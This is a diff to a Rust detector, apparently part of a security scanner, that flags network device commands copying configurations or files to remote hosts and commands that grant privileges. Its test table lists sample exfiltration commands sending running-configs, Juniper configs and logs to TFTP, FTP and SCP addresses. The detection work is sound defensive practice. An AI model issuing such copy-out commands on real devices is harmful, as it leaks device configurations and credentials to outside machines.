@@ -161,7 +161,13 @@ pub(crate) fn shows_secret(line: &str) -> bool {
 /// What a line of a network device reaches for: a copy to somewhere else, or rights.
 pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let words: Vec<String> = line.split_whitespace().map(str::to_ascii_lowercase).collect();
-    let is_remote = |word: &str| REMOTE.iter().any(|scheme| word.trim_start_matches('"').starts_with(scheme)) || word.holds("://");
+    // They lead to a command of another mode: `do copy ..` in a configuration.
+    let leads = |word: &&String| matches!(word.as_str(), "do" | "run" | "top");
+    let words = words.get(words.iter().take(words.len().saturating_sub(1)).take_while(leads).count()..).unwrap_or_default();
+    // `u@h:/x`, as scp has it.
+    let has_host = |word: &str| word.split_once('@').is_some_and(|(_, host)| host.has(':'));
+    let is_remote =
+        |word: &str| REMOTE.iter().any(|scheme| word.trim_start_matches('"').starts_with(scheme)) || word.holds("://") || has_host(word);
     // The source of a copy stands first among its operands, what it goes to behind.
     let named = words.iter().skip(1).filter(|word| !word.starts_with('/') || word.holds("://"));
     let first = words.first().map(|word| word.trim_start_matches('/')).unwrap_or_default();
@@ -170,9 +176,14 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let asks =
         |word: &str| first.len() > 2 && "copy".starts_with(first) && word.len() > 1 && REMOTE.iter().any(|full| full.starts_with(word));
     let leads_away = |word: &String| is_remote(word) || asks(word);
-    let goes = copies && named.skip(1).any(leads_away) && !words.get(1).is_some_and(leads_away);
+    let source = if words.get(1).is_some_and(|word| word == "copy") { 2 } else { 1 };
+    let goes = copies && named.skip(1).any(leads_away) && !words.get(source).is_some_and(leads_away);
+    // What is saved has no name there: the only operand is where it goes.
+    let saves = first.len() > 1
+        && ["save", "write"].iter().any(|full| full.starts_with(first))
+        && words.iter().skip(1).any(|word| is_remote(word));
     let uploads = words.iter().any(|word| matches!(word.as_str(), "upload=yes" | "e-mail" | "upload"));
-    if goes || uploads {
+    if goes || saves || uploads {
         return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
     }
     if shows_secret(line) {
@@ -181,7 +192,7 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let has = |full: &[&str]| words.iter().any(|word| full.contains(&word.as_str()));
     let users = matches!(first, "username" | "aaa" | "user" | "enable") && words.len() > 1
         || matches!(first, "enable" | "en" | "ena" | "super" | "system-view" | "su")
-        || first == "set" && has(&["root-authentication", "login", "authentication", "privilege"]);
+        || first == "set" && has(&["root-authentication", "login", "authentication", "privilege", "mgmt-config"]);
     users.then(|| reach(PRIVILEGE, "device.rights", format!("{} takes or gives rights", excerpt(line))))
 }
 
@@ -256,6 +267,14 @@ mod tests {
             ("cop run sc", Some(EXFILTRATION)),
             ("copy tftp run", None),
             ("copy run start", None),
+            ("do copy running-config tftp://192.0.2.1/x", Some(EXFILTRATION)),
+            ("do copy tftp://192.0.2.1/x flash:", None),
+            ("run file copy /var/tmp/x ftp://192.0.2.1/x", Some(EXFILTRATION)),
+            ("file copy /config/juniper.conf.gz u@192.0.2.1:/x", Some(EXFILTRATION)),
+            ("file copy ftp://192.0.2.1/x /var/tmp/x", None),
+            ("save scp://u@192.0.2.1/x", Some(EXFILTRATION)),
+            ("top save ftp://192.0.2.1/x", Some(EXFILTRATION)),
+            ("save config to x", None),
             ("show run | redirect ftp://192.0.2.1/x", Some(EXFILTRATION)),
             ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
             ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
